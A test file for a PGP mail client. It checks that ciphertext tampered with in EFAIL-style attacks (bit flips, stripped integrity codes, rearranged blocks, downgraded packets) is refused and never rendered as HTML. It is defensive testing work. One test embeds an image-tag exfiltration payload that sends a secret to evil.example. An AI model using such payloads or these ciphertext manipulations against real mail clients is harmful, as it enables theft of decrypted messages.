// EFAIL, malleability gadgets (Poddebniak and others, 2018; Mister and Zuccherato, 2005): CFB ciphertext altered in transit,
// with its integrity protection stripped, altered or absent (RFC 9580 13.7).
import { beforeAll, describe, expect, it } from "vitest";
import { openpgp } from "../../src/domain/pgp/openpgp";
import { armored, join, literal, packet, packetsIn, rebuilt, TYPE } from "./packets";
import {
  aliceSide,
  drawn,
  head,
  isPositive,
  pgpMime,
  read,
  readArmor,
  SECRET,
  type Side,
  sealed,
  stateOf,
  textPart,
} from "./world";

let side: Side;
let honest: string;

beforeAll(async () => {
  side = await aliceSide();
  honest = await sealed(side, textPart(`<p>${SECRET}</p>`, "text/html"));
});

const body = (change: (bytes: Uint8Array) => Uint8Array): string =>
  rebuilt(honest, (one) => (one.type === TYPE.protected ? { ...one, body: change(one.body) } : one));

async function refuses(message: string, codes: readonly string[]): Promise<void> {
  const whole = await read(side, head() + pgpMime(message));
  expect(whole.kind).toBe("failed");
  expect(codes).toContain(whole.kind === "failed" && whole.failure.code);
  expect(codes).toContain(await readArmor(side, message));
  expect(codes).toContain(await readArmor(side, message, { unprotected: true }));
}

describe("sealed data that was changed", () => {
  it("opens as long as it was not", async () => {
    const whole = await read(side, head() + pgpMime(honest));
    expect(stateOf(whole)).toBe("verified");
    expect(drawn(whole)).toContain(SECRET);
  });

  it("is refused wherever a bit is flipped", async () => {
    const { length } = packetsIn(honest).find(({ type }) => type === TYPE.protected)!.body;
    for (const at of [1, 17, 18, 19, 40, Math.floor(length / 2), length - 22, length - 20, length - 1])
      await refuses(
        body((bytes) => bytes.map((octet, index) => (index === at ? octet ^ 1 : octet))),
        ["not-authenticated", "damaged"],
      );
  });

  it("is refused without its MDC, with half of it, and with blocks cut out or moved", async () => {
    await refuses(
      body((bytes) => bytes.subarray(0, -22)),
      ["not-authenticated"],
    );
    await refuses(
      body((bytes) => bytes.subarray(0, -10)),
      ["not-authenticated"],
    );
    await refuses(
      body((bytes) => join(bytes.subarray(0, 33), bytes.subarray(49))),
      ["not-authenticated"],
    );
    await refuses(
      body((bytes) => join(bytes.subarray(0, 33), bytes.subarray(49, 65), bytes.subarray(33, 49), bytes.subarray(65))),
      ["not-authenticated"],
    );
  });

  it("is refused under another version of its protection, or another session key", async () => {
    await refuses(
      body((bytes) => bytes.map((octet, index) => (index === 0 ? 3 : octet))),
      ["unsupported", "not-authenticated", "damaged"],
    );
    await refuses(
      body((bytes) => bytes.map((octet, index) => (index === 0 ? 2 : octet))),
      ["unsupported", "not-authenticated", "damaged"],
    );
    const other = await sealed(side, "another");
    const [pkesk] = packetsIn(other);
    await refuses(
      rebuilt(honest, (one) => (one.type === TYPE.pkesk ? pkesk! : one)),
      ["not-authenticated"],
    );
  });
});

/** The protection stripped: the same ciphertext in the packet type without protection (RFC 9580 5.7). */
const downgraded = (): string =>
  rebuilt(honest, (one) =>
    one.type === TYPE.protected ? { type: TYPE.unprotected, body: one.body.subarray(1) } : one,
  );

/** Honest old mail: made without protection, with a good signature inside. */
async function old(content: string): Promise<string> {
  const sealedNow = await openpgp.readMessage({ armoredMessage: honest });
  const { keys } = await sessionKeyOf(sealedNow);
  const inner = await openpgp.sign({
    message: await openpgp.createMessage({ binary: new TextEncoder().encode(content) }),
    signingKeys: side.bob.secret,
    format: "object",
  });
  const data = new (
    openpgp as unknown as { SymmetricallyEncryptedDataPacket: new () => SedPacket }
  ).SymmetricallyEncryptedDataPacket();
  data.packets = inner.packets;
  await data.encrypt(openpgp.enums.symmetric.aes256, keys.data, openpgp.config);
  return armored(
    join(
      ...packetsIn(honest)
        .filter(({ type }) => type === TYPE.pkesk)
        .map(({ type, body }) => packet(type, body)),
      packet(TYPE.unprotected, data.write()),
    ),
  );
}

interface SedPacket {
  packets: unknown;
  encrypt(algorithm: number, key: Uint8Array, config: unknown): Promise<void>;
  write(): Uint8Array;
}

async function sessionKeyOf(message: openpgp.Message<string>) {
  const { database } = await import("../../src/background/store/database");
  const { unlockedKey } = await import("../../src/background/own-keys/vault");
  const secret = await unlockedKey((await database.identities.toArray())[0]!);
  const [keys] = await openpgp.decryptSessionKeys({ message, decryptionKeys: secret! });
  return { keys: keys! };
}

describe("data that nothing protects", () => {
  it("is refused when its protection was taken off, and never becomes HTML or a signature when asked for", async () => {
    const message = downgraded();
    expect(await read(side, head() + pgpMime(message))).toMatchObject({
      kind: "failed",
      failure: { code: "not-authenticated", unprotected: true },
    });
    expect(await readArmor(side, message)).toBe("not-authenticated");
    const asked = await read(side, head() + pgpMime(message), { unprotected: true });
    expect(isPositive(stateOf(asked))).toBe(false);
    if (asked.kind === "opened") {
      expect(asked.shown.blocks.every(({ html }) => html === null)).toBe(true);
      expect(asked.shown.attachments).toEqual([]);
    }
  });

  it("of old mailers opens after the user asked, as text alone and without its signature", async () => {
    const plain = await old(textPart(SECRET));
    expect(await read(side, head() + pgpMime(plain))).toMatchObject({
      kind: "failed",
      failure: { code: "not-authenticated" },
    });
    const asked = await read(side, head() + pgpMime(plain), { unprotected: true });
    expect(drawn(asked)).toContain(SECRET);
    expect(stateOf(asked)).toBe("none");
    const html = await read(
      side,
      head() + pgpMime(await old(textPart(`<img src="https://evil.example/${SECRET}">`, "text/html"))),
      { unprotected: true },
    );
    expect(html.kind === "opened" && html.shown.blocks.every((block) => block.html === null)).toBe(true);
    expect(html.kind === "opened" && [...html.shown.resources, ...html.shown.attachments]).toEqual([]);
  });

  it("says unprotected, not changed, only where there never was any protection to fail", async () => {
    const changed = await read(side, head() + pgpMime(body((bytes) => bytes.subarray(0, -22))));
    expect(changed).toEqual({ kind: "failed", failure: { ok: false, code: "not-authenticated" } });
  });

  it("hides behind no packet of a protected kind beside it", async () => {
    const parts = packetsIn(honest).map(({ type, body: own }) => packet(type, own));
    const bare = packet(TYPE.unprotected, packetsIn(honest).at(-1)!.body.subarray(1));
    for (const message of [
      join(...parts, bare),
      join(parts[0]!, bare, parts.at(-1)!),
      join(...parts, literal("added")),
    ]) {
      const opened = await readArmor(side, armored(message), { unprotected: true });
      expect(typeof opened === "string" || !isPositive(opened.signature.state)).toBe(true);
    }
  });
});
